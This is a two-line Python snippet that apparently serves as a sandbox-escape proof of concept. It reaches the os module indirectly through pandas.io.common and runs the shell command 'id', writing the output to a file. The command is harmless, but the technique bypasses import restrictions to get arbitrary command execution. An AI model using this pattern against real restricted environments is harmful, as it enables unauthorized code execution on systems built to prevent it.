import pandas.io.common as c
c.os.system("id>pf")
